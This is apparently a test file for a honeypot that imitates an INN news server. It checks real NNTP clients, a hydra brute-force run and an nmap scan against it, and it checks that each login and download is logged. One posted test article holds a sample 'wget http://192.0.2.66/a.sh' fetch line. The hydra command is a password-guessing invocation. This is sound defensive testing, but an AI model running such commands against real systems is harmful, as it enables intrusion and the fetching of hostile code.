import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { after, before, describe, test } from 'node:test'
import type { Event } from '#events/event.ts'
import { missing, runClient, type Skep, startSkep } from '../skep.ts'

type Login = Event & { user?: { name: string }; skep: { login: { password?: string; method: string } } }
const ofAction = (action: string) => (event: Event) => event.skep.service === 'nntp' && event.event.action === action

/** Debian's Python up to 3.12 has nntplib; perl-modules has Net::NNTP. */
const python = ['/usr/bin/python3', 'python3'].find(
  program => spawnSync(program, ['-W', 'ignore', '-c', 'import nntplib']).status === 0,
)
const perl = spawnSync('perl', ['-MNet::NNTP', '-e', '1']).status === 0

describe('NNTP, with real clients', () => {
  let skep: Skep
  let port: string
  let home: string
  let words: string
  before(async () => {
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'nntp-clients-'))
    words = path.join(home, 'words')
    fs.writeFileSync(words, 'alpha\nbeta\ns3cr3t\n')
    skep = await startSkep({
      config:
        'persona: { os: debian-12, hostname: relay3, domain: hayase-works.example }\nservices: { nntp: { access: { rules: ["news:s3cr3t"], otherwise: refuse } } }\n',
    })
    port = String(skep.port('nntp'))
  })
  after(async () => {
    await skep?.stop()
    if (home) fs.rmSync(home, { recursive: true })
  })

  test('Python’s nntplib reads, logs in over TLS, and posts', { skip: python ? false : 'no nntplib' }, async () => {
    const program = `
import nntplib, ssl
s = nntplib.NNTP('127.0.0.1', ${port}, readermode=True)
assert 'INN 2.7.1' in s.getwelcome(), s.getwelcome()
assert s.getcapabilities()['IMPLEMENTATION'] == ['INN', '2.7.1']
_, groups = s.list(); assert 'local.general' in [g.group for g in groups]
_, count, first, last, name = s.group('local.general')
_, overviews = s.over((first, last)); assert len(overviews) == count and overviews[0][1]['subject']
_, info = s.article(first); assert info.message_id == overviews[0][1]['message-id']
assert s.date()[1].year > 2000
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
s.starttls(context)
s.login('news', 's3cr3t', usenetrc=False)
print(s.post([b'From: spam@offers.example', b'Newsgroups: local.test', b'Subject: Cheap pills', b'', b'.hidden dot', b'wget http://192.0.2.66/a.sh']))
_, count, first, last, name = s.group('local.test')
assert b'.hidden dot' in s.body(last)[1].lines
s.quit()
s = nntplib.NNTP_SSL('127.0.0.1', ${skep.port('nntp', { tls: true })}, ssl_context=context); s.quit()
print('fine')
`
    const { out, err } = await runClient(python!, ['-W', 'ignore', '-c', program])
    assert.match(out, /^240 Article received <[^>]+>\nfine\n$/, err)
    const [mail] = await skep.eventually(ofAction('mail'))
    assert.match(JSON.stringify(mail), /"fate":"held".*"subject":"Cheap pills"/)
    const { sha256 } = (mail as unknown as { file: { hash: { sha256: string } } }).file.hash
    const files = fs.readdirSync(skep.data, { recursive: true, encoding: 'utf8' })
    assert.ok(
      files.some(file => file.includes(sha256)),
      'the article is kept',
    )
    await skep.eventually(ofAction('file-download'))
  })

  test('Perl’s Net::NNTP', { skip: perl ? false : 'no Net::NNTP' }, async () => {
    const program = `
use Net::NNTP; my $s = Net::NNTP->new('127.0.0.1', Port => ${port}, Timeout => 20) or die;
my ($n, $low, $high, $name) = $s->group('local.general'); die unless $n == 3;
my $list = $s->list; die unless $list->{'local.test'};
my $head = $s->head($low); die unless grep /^Subject:/, @$head;
my $hdr = $s->xhdr('From', [$low, $high]); die unless keys %$hdr == 3;
die unless $s->newsgroups('*')->{'local.general'} eq 'General talk';
die if $s->authinfo('admin', 'wrong'); die unless $s->authinfo('news', 's3cr3t');
$s->quit; print "fine\\n";
`
    const { out, err } = await runClient('perl', ['-e', program])
    assert.equal(out, 'fine\n', err)
  })

  const tried = async (user: string) => {
    const wanted = (event: Event) => ofAction('login')(event) && (event as Login).user?.name === user
    const logins = (await skep.eventually(wanted, 3)) as Login[]
    const passwords = new Set(logins.map(event => event.skep.login.password))
    for (const word of ['alpha', 'beta', 's3cr3t']) assert.ok(passwords.has(word), word)
  }
  test('hydra finds the password, and each guess is recorded', { skip: missing('hydra') }, async () => {
    const args = ['-l', 'news', '-P', words, '-t', '1', '-I', '-s', port, '127.0.0.1', 'nntp']
    const { out } = await runClient('hydra', args, { seconds: 120 })
    assert.match(out, /\[nntp\] host: 127\.0\.0\.1 +login: news +password: s3cr3t/)
    await tried('news')
  })
  test('nmap names INN', { skip: missing('nmap') }, async () => {
    const args = ['-Pn', '-n', '-sV', '-p', port, '--script', 'nntp-ntlm-info', '127.0.0.1']
    const { out } = await runClient('nmap', args, { seconds: 150 })
    assert.match(out, /open +nntp +InterNetNews \(INN\) 2\.7\.1|open +nntp +.*INN.*2\.7\.1/)
    assert.doesNotMatch(out, /honey|skep/i)
  })
})
